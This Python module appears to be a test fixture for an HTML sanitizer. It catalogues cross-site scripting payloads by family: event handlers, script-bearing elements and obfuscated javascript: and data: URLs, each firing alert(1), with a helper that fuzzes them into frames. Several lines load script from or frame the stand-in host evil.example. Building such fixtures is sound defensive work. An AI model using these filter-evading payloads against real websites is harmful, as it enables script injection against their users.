"""Bodies that want to run a script, by families. Each calls `alert(1)`, so that one detector tells of all."""

from __future__ import annotations

from itertools import product
from typing import Final

RUN: Final = "alert(1)"
IMG: Final = f"<img src=x onerror={RUN}>"
_DATA = "data:text/html,<script>parent.alert(1)</script>"

Family = dict[str, str]


def numbered(*markups: str) -> Family:
    """Return a family whose members have numbers for names."""
    return {f"{number:02}": markup for number, markup in enumerate(markups)}


_ELEMENTS = ("a", "b", "div", "p", "video", "svg", "math", "details", "input", "td", "marquee", "x-y", "body", "html")
_EVENTS = (
    *("onclick", "onmouseover", "onfocus tabindex=1 autofocus", "onpointerdown", "onkeydown", "onload", "onerror"),
    *("oncopy", "onwheel", "ontouchstart", "onpointerrawupdate", "onauxclick", "oncontextmenu", "ondblclick"),
)
HANDLERS: Final[Family] = {
    f"{element} {event.split()[0]}": f"<{element} {event.split()[0]}={RUN} {' '.join(event.split()[1:])}>文</{element}>"
    for element, event in zip(_ELEMENTS * 2, (*_EVENTS, *_EVENTS[3:], *_EVENTS[:3]), strict=True)
} | numbered(
    IMG,
    f"<img src=x OnErRoR={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<img src=x\x0conerror={RUN}>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    f"<image src=x onerror={RUN}>",
    f"<input type=image src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>一</select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN}>钮</button>",
    f"<video><source onerror={RUN}></video>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video poster=x onloadstart={RUN} src=x></video>",
    f"<details open ontoggle={RUN}><summary>一</summary>二</details>",
    f"<div popover id=p onbeforetoggle={RUN}>一</div><button popovertarget=p>二</button>",
    f"<marquee onstart={RUN}>一</marquee>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}><html onclick={RUN}>",
    f"<svg onload={RUN}></svg>",
    f"<svg><g onload={RUN}></g></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><set onend={RUN} attributeName=x dur=0.01s></svg>",
    f"<svg><image href=x onerror={RUN}></svg>",
    f"<style>@keyframes k{{to{{left:1px}}}}</style><p style='animation:k .01s' onanimationstart={RUN}>一</p>",
    f"<p style='animation-name:fade;animation-duration:1s' onanimationend={RUN}>一</p>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<link rel=stylesheet href='//n.sinaimg.cn/a.css' onerror={RUN}>",
    f"<iframe onload={RUN}></iframe>",
    f"<iframe src='//finance.sina.com.cn/v' onload={RUN}></iframe>",
    f"<object data=x onerror={RUN}></object>",
    f"<embed src=x onload={RUN}>",
    f"<track onerror={RUN}><bgsound onerror={RUN}><isindex onclick={RUN}>",
    f"<math><mi onclick={RUN}>一</mi></math>",
    f"<p onclick={RUN} onclick=二>一</p>",
    f"<b '\"onclick={RUN}>一</b>",
    f"<b a='\"'onclick={RUN}>一</b>",
    f"<b title='\" onclick={RUN} x=\"'>一</b>",
    f"<b title='&quot; onclick={RUN} x=&quot;'>一</b>",
    f"<b title=`a`onclick={RUN}>一</b>",
    f"<b \x01onclick={RUN}>一</b>",
    f"<b o\x01nclick={RUN}>一</b>",
    f"<b on\x7fclick={RUN}>一</b>",
    f"<b //onclick={RUN}//>一</b>",
    f"<b\u2028onclick={RUN}>一</b>",
    f"<b\u00a0onclick={RUN}>一</b>",
)
ELEMENTS: Final[Family] = numbered(
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script >{RUN}</script\t\n x>",
    f"<script/x>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<script src='data:text/javascript,{RUN}'></script>",
    "<script src=//evil.example/a.js></script>",
    f"<script><!--{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script></script>ipt>{RUN}</scr</script>ipt>",
    f"<s\x01cript>{RUN}</s\x01cript>",
    f"<\x00script>{RUN}</script>",
    f"<script\x00>{RUN}</script>",
    f"&lt;script>{RUN}&lt;/script>",
    f"&amp;lt;script>{RUN}&amp;lt;/script>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><script>&#97;lert(1)</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}' /></svg>",
    f"<svg><script xlink:href='data:text/javascript,{RUN}'></script></svg>",
    f"<math><script>{RUN}</script></math>",
    f"<table><tr><script>{RUN}</script></tr></table>",
    f"<select><script>{RUN}</script></select>",
    f"<template><script>{RUN}</script></template>",
    f"<div><template shadowrootmode=open>{IMG}</template></div>",
    f"<noscript><script>{RUN}</script></noscript>",
    f"<noembed>{IMG}</noembed><noframes>{IMG}</noframes>",
    f"<frameset onload={RUN}><frame src='javascript:{RUN}'></frameset>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe srcdoc='&lt;img src=x onerror=parent.{RUN}&gt;'></iframe>",
    f"<iframe SRCDOC=\"<svg onload='parent.{RUN}'>\"></iframe>",
    f'<iframe src="{_DATA}"></iframe>',
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe src='jav&Tab;ascript:parent.{RUN}'></iframe>",
    "<iframe src='//evil.example/'></iframe>",
    f"<iframe>{IMG}</iframe>",
    f"<iframe></iframe>{IMG}</iframe>",
    f'<object data="{_DATA}"></object>',
    f"<object data='javascript:{RUN}'></object>",
    f"<object><param name=movie value='javascript:{RUN}'></object>",
    f'<embed src="{_DATA}">',
    f"<embed src='javascript:{RUN}'>",
    f"<applet code='javascript:{RUN}'>一</applet>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<meta http-equiv=refresh content="0;url={_DATA}">',
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<base href='javascript:/'><a href='//%0a{RUN}//'>一</a>",
    "<base href='//evil.example/'><img src=a.png>",
    f"<form action='javascript:{RUN}'><input type=submit value=一></form>",
    f"<form id=f></form><button form=f formaction='javascript:{RUN}'>一</button>",
    f"<form><input type=submit formaction='javascript:{RUN}'></form>",
    f"<form><isindex action='javascript:{RUN}' type=image></form>",
    f"<xmp></xmp>{IMG}</xmp>",
    f"<plaintext>{IMG}",
    f"<title>{IMG}</title>",
    f"<title></title>{IMG}</title>",
    f"<textarea></textarea>{IMG}</textarea>",
    f"<style></style>{IMG}</style>",
    f"<portal src='javascript:{RUN}'></portal><fencedframe src='//evil.example/'></fencedframe>",
    f"<p>一</p></div></div></div></body></html>{IMG}",
    f"<x{{y>{IMG}</x{{y>",
    f"<p中文 onclick={RUN}>一</p中文>",
    f"<javascript:{RUN}>一",
    f"<javascript:alert onclick={RUN}>一</javascript:alert>",
)
_BLANKS = {
    "plain": "javascript:",
    "case": "JaVaScRiPt:",
    "blank before": " \n\tjavascript:",
    "control before": "\x01javascript:",
    "a reference to a control": "&#1;&#x20;javascript:",
    "tab": "java\tscript:",
    "line feed": "java\nscript:",
    "return": "java\rscript:",
    "tab by name": "java&Tab;script:",
    "line feed by name": "java&NewLine;script&colon;",
    "decimal": "&#106;&#97;vascript&#58;",
    "no semicolon": "&#0000106avascript&#58",
    "hexadecimal": "&#x6A&#x61;vascript&#x3A;",
    "control that goes": "java\x01script:",
    "DEL that goes": "java\x7fscript:",
    "before the colon": "javascript\n:",
    "no-break space": "\u00a0javascript:",
    "line separator": "\u2028javascript:",
    "soft hyphen": "java\u00adscript:",
    "byte order mark": "\ufeffjavascript:",
    "ideographic blank": "\u3000javascript:",
    "NUL": "java\x00script:",
    "vbscript": "vbscript:",
    "view source": "view-source:javascript:",
    "feed": "feed:javascript:",
}
_PLACES = ("a href", "svg><a xlink:href", "svg><a href", "math><mi href", "button formaction", "area href")
URLS: Final[Family] = {
    f"{place}, {name}": f'<{place}="{url}{RUN}">文'
    for number, (name, url) in enumerate(_BLANKS.items())
    for place in (_PLACES[0], _PLACES[1 + number % 5])
} | numbered(
    f'<a href="{_DATA}">一</a>',
    '<a href="DATA:text/HTML;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4=">一</a>',
    f'<a href="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22parent.{RUN}%22/>">一</a>',
    f'<a href="data:application/xhtml+xml,<html xmlns=%22http://www.w3.org/1999/xhtml%22 onload=%22{RUN}%22/>">一</a>',
    f"<a href=\"data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>parent.{RUN}</x:script>\">一</a>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script>"
    '</svg>#x"></svg>',
    f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text y=20>一</text></a></svg>",
    f"<svg><a><set attributeName=href to='javascript:{RUN}'/><text y=20>一</text></a></svg>",
    f"<svg><a><set attributeName='xlink:href' to='java&#9;script:{RUN}'/><text y=20>一</text></a></svg>",
    f"<svg><a><animate attributeName=href values='#;javascript:{RUN}' begin=0s dur=.1s fill=freeze />"
    "<text y=20>一</text></a></svg>",
    f"<svg><a><animate attributeName=href from=java by='script:{RUN}'/><text y=20>一</text></a></svg>",
    f"<svg><set attributeName=onclick to={RUN} /><text y=20>一</text></svg>",
    f"<svg><animate attributeName=onclick values={RUN} /><text y=20>一</text></svg>",
    f"<math href='javascript:{RUN}'>一</math>",
    f"<math><maction actiontype='statusline#javascript:{RUN}' xlink:href='javascript:{RUN}'>一</maction></math>",
    f"<img src='javascript:{RUN}'><img dynsrc='javascript:{RUN}'><img lowsrc='javascript:{RUN}'>",
    f'<img data-src="javascript:{RUN}//.jpg">',
    f"<table background='javascript:{RUN}'><td background='javascript:{RUN}'></table>",
    f"<video poster='javascript:{RUN}' src='javascript:{RUN}'></video>",
    f"<a href='javascript://%0a{RUN}'>一</a>",
    "<a href='javascript:%61lert(1)'>一</a>",
    f"<a href='javascript:void(0)' onclick={RUN}>一</a>",
    f"<a target=_self href='java\\nscript:{RUN}'>一</a>",
    f"<a ping='//evil.example/' href='javascript:{RUN}'>一</a>",
)


def scripts() -> dict[str, str]:
    """Return every family's members, by family and name."""
    families = {"handler": HANDLERS, "element": ELEMENTS, "url": URLS}
    return {f"{family}: {name}": markup for family, each in families.items() for name, markup in each.items()}


def fuzzed(pieces: tuple[str, ...], around: tuple[str, ...]) -> list[str]:
    """Return each piece in each frame, for mutations."""
    return [frame.replace("@", piece) for frame, piece in product(around, pieces)]
